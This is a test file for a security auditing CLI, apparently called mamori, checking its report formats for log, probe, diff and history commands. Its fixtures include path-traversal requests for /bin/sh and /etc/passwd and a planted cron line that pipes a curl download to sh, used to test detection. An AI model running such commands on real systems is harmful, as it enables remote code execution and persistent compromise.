/**
 * Issue 11, one runner: `logs`, `probe`, `diff` and `history` each give one report (ReportDocument),
 * rendered by the one renderer registry, so every format works for every command and says the right thing.
 */
import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as path from "node:path";
import { test } from "node:test";
import { reportContractSchema } from "../../src/core/contract.ts";
import { FORMAT_NAMES } from "../../src/report/formats/index.ts";
import { startEmulation } from "../exposure/helpers/emulation.ts";
import { type CliResult, mamori } from "../helpers/cli.ts";
import { tempDir } from "../helpers/tmp.ts";
import { serverRoot } from "../watch/helpers.ts";

const NOW = "2026-11-21T00:00:00Z";

/** SARIF 2.1.0 as code-scanning readers need it: one run, mamori as the driver, results naming known rules. */
function assertSarif(text: string, wantResults: (ruleIds: string[]) => void): void {
  const log = JSON.parse(text);
  assert.equal(log.version, "2.1.0");
  assert.equal(typeof log.$schema, "string");
  assert.equal(log.runs.length, 1);
  const run = log.runs[0];
  assert.equal(run.tool.driver.name, "mamori");
  const rules = run.tool.driver.rules.map((r: { id: string }) => r.id);
  for (const r of run.results) {
    assert.equal(rules[r.ruleIndex], r.ruleId);
    assert.ok(["error", "warning", "note", "none"].includes(r.level));
    assert.ok(r.message.text.length > 0);
    assert.equal(typeof r.partialFingerprints.mamoriFindingId, "string");
  }
  wantResults(run.results.map((r: { ruleId: string }) => r.ruleId));
}

function contract(r: CliResult, command: string) {
  const parsed = reportContractSchema.safeParse(JSON.parse(r.stdout));
  assert.ok(parsed.success, JSON.stringify(parsed.error?.issues.slice(0, 3)));
  assert.equal(parsed.data.command, command);
  return parsed.data;
}

function assertHtml(text: string): void {
  assert.match(text, /^<!doctype html>/);
  assert.match(text, /<\/html>\s*$/);
}

// ---- logs ----

function attackLog(t: Parameters<typeof tempDir>[0]): string {
  const file = path.join(tempDir(t), "access.log");
  fs.writeFileSync(
    file,
    [
      '198.51.100.7 - - [20/Nov/2026:03:14:07 +0000] "GET /cgi-bin/.%2e/%2e%2e/%2e%2e/bin/sh HTTP/1.1" 200 120 "-" "x"',
      '198.51.100.7 - - [20/Nov/2026:04:14:07 +0000] "GET /icons/.%2e/%2e%2e/etc/passwd HTTP/1.1" 403 120 "-" "x"',
      "",
    ].join("\n"),
  );
  return file;
}

const logs = (file: string, format: string) => mamori(["logs", file, "--format", format, "--now", NOW]);

test("logs: human is the story of the attack", async (t) => {
  const r = await logs(attackLog(t), "human");
  assert.equal(r.code, 1, r.stderr);
  assert.match(r.stdout, /198\.51\.100\.7/);
  assert.match(r.stdout, /access\.log/);
});

test("logs: json is the report contract, with the logs section and findings", async (t) => {
  const doc = contract(await logs(attackLog(t), "json"), "logs");
  assert.ok(doc.findings.some((f) => f.check.startsWith("logs.")));
  assert.ok((doc.sections.logs?.events.length ?? 0) >= 2);
});

test("logs: sarif names the log rule that matched, at the line of the file", async (t) => {
  const file = attackLog(t);
  const r = await logs(file, "sarif");
  assertSarif(r.stdout, (ids) =>
    assert.ok(
      ids.some((id) => id.startsWith("logs.")),
      ids.join(),
    ),
  );
  assert.ok(
    JSON.parse(r.stdout).runs[0].results.some((x: { locations: unknown[] }) => x.locations.length > 0),
  );
});

test("logs: markdown and html list the findings", async (t) => {
  const file = attackLog(t);
  const md = await logs(file, "markdown");
  assert.match(md.stdout, /^# /);
  assert.match(md.stdout, /198\.51\.100\.7/);
  const html = await logs(file, "html");
  assertHtml(html.stdout);
  assert.match(html.stdout, /198\.51\.100\.7/);
});

test("logs: an unreadable file is a keyed note, rendered in the report's language", async (t) => {
  const file = attackLog(t);
  const gone = path.join(path.dirname(file), "missing.log");
  for (const lang of ["en", "ja"]) {
    const r = await mamori(["logs", file, gone, "--format", "json", "--now", NOW, "--lang", lang]);
    const doc = JSON.parse(r.stdout);
    const n = doc.notChecked.find((x: { path?: string }) => x.path === gone);
    assert.ok(n, r.stdout);
    assert.equal(n.reason, "ENOENT");
  }
});

// ---- probe ----

async function probe(t: Parameters<typeof startEmulation>[0], format: string) {
  const emu = await startEmulation(t, "2.4.49", "granted-root");
  const url = `http://127.0.0.1:${emu.port}/`;
  return mamori([
    "probe",
    "--rate",
    "1000",
    "--format",
    format,
    url,
    "http://127.0.0.1:9/",
    "--timeout",
    "2",
  ]);
}

test("probe: human shows each target's verdicts", async (t) => {
  const r = await probe(t, "human");
  assert.equal(r.code, 1, r.stderr);
  assert.match(r.stdout, /VULNERABLE/);
  assert.match(r.stdout, /CVE-2021-41773/);
  assert.match(r.stdout, /127\.0\.0\.1:9/);
});

test("probe: json is the report contract; a vulnerable check is a finding, a dead target not checked", async (t) => {
  const doc = contract(await probe(t, "json"), "probe");
  assert.equal(doc.sections.probe?.targets.length, 2);
  const f = doc.findings.find((x) => x.check === "probe.cve-2021-41773");
  assert.ok(f, JSON.stringify(doc.findings.map((x) => x.check)));
  assert.equal(f.severity, "critical");
  assert.deepEqual(f.cves, ["CVE-2021-41773"]);
  assert.ok(doc.notChecked.some((n) => n.area === "probe" && n.path === "http://127.0.0.1:9/"));
});

test("probe: sarif has the traversal as an error-level result", async (t) => {
  const r = await probe(t, "sarif");
  assertSarif(r.stdout, (ids) => assert.ok(ids.includes("probe.cve-2021-41773"), ids.join()));
  const res = JSON.parse(r.stdout).runs[0].results.find(
    (x: { ruleId: string }) => x.ruleId === "probe.cve-2021-41773",
  );
  assert.equal(res.level, "error");
});

test("probe: markdown is the per-target table, html the report page", async (t) => {
  const md = await probe(t, "markdown");
  assert.match(md.stdout, /^# mamori probe/);
  assert.match(md.stdout, /\| Path traversal CVE\\-2021\\-41773 .*\| VULNERABLE \|/);
  const html = await probe(t, "html");
  assertHtml(html.stdout);
  assert.match(html.stdout, /CVE-2021-41773/);
});

// ---- diff and history ----

test("diff and history: every format", async (t) => {
  // One database for every format: two audits of a root, the second with a new cron line.
  const dir = tempDir(t);
  const root = path.join(dir, "root");
  serverRoot(root);
  const file = path.join(dir, "h.db");
  await mamori(["audit", "--root", root, "--db", file, "--now", "2026-03-01T00:00:00Z"]);
  fs.mkdirSync(path.join(root, "etc/cron.d"), { recursive: true });
  fs.writeFileSync(
    path.join(root, "etc/cron.d/backup"),
    "*/5 * * * * root curl -s http://203.0.113.9/x|sh\n",
  );
  await mamori(["audit", "--root", root, "--db", file, "--now", "2026-03-02T00:00:00Z"]);
  const diff = (format: string) => mamori(["diff", "--db", file, "--format", format]);
  const hist = (format: string) => mamori(["history", "--db", file, "--format", format]);

  await t.test("diff: human lists the new cron line", async () => {
    const r = await diff("human");
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stdout, /Changes from scan/);
    assert.match(r.stdout, /New findings|new/i);
    assert.match(r.stdout, /baseline\.cron/);
  });
  await t.test(
    "diff: json is the report contract; the new finding is in findings and in sections.diff.new",
    async () => {
      const doc = contract(await diff("json"), "diff");
      const d = doc.sections.diff;
      assert.ok(d);
      const cron = d.new.find((f) => f.check === "baseline.cron");
      assert.ok(cron, JSON.stringify(d.new));
      assert.equal(typeof cron.title, "string");
      assert.ok(doc.findings.some((f) => f.id === cron.id));
      assert.equal(d.resolved.length, 0);
    },
  );
  await t.test("diff: sarif has the new finding as a result", async () => {
    assertSarif((await diff("sarif")).stdout, (ids) => assert.ok(ids.includes("baseline.cron"), ids.join()));
  });
  await t.test("diff: markdown tables the change, html is the report page", async () => {
    const md = (await diff("markdown")).stdout;
    assert.match(md, /^# Changes from scan/);
    assert.match(md, /`baseline\.cron:/);
    assertHtml((await diff("html")).stdout);
  });

  await t.test("diff: a saved Japanese diff report reads in English through `mamori report`", async () => {
    const saved = path.join(dir, "diff-ja.json");
    fs.writeFileSync(
      saved,
      (await mamori(["diff", "--db", file, "--format", "json", "--lang", "ja"])).stdout,
    );
    const en = await mamori(["report", saved, "--lang", "en"]);
    assert.match(en.stdout, /^Changes from scan/);
    assert.match(en.stdout, /New cron entry since the baseline/);
    assert.doesNotMatch(en.stdout, /[\u3040-\u30ff]/, en.stdout);
  });

  await t.test("history: human lists both scans", async () => {
    const r = await hist("human");
    assert.equal(r.code, 0, r.stderr);
    assert.equal((r.stdout.match(/^2026030[12]T/gm) ?? []).length, 2, r.stdout);
  });
  await t.test("history: json is the report contract with both scans", async () => {
    const doc = contract(await hist("json"), "history");
    assert.equal(doc.sections.history?.scans.length, 2);
    assert.equal(doc.findings.length, 0);
  });
  await t.test("history: sarif is a valid run with no results", async () => {
    assertSarif((await hist("sarif")).stdout, (ids) => assert.deepEqual(ids, []));
  });
  await t.test("history: markdown tables the scans, html is the report page", async () => {
    const md = (await hist("markdown")).stdout;
    assert.equal((md.match(/^\| `2026030[12]T/gm) ?? []).length, 2, md);
    const page = (await hist("html")).stdout;
    assertHtml(page);
    // The page shows the command's own view: both scans, one line each.
    const view = /<section id="command-view">[\s\S]*?<\/section>/.exec(page)?.[0] ?? "";
    assert.equal((view.match(/^2026030[12]T/gm) ?? []).length, 2, view);
  });
  await t.test("an unknown format is one line, exit 2", async () => {
    const r = await hist("yaml");
    assert.equal(r.code, 2);
    assert.match(r.stderr, new RegExp(FORMAT_NAMES.join("\\|")));
  });
});
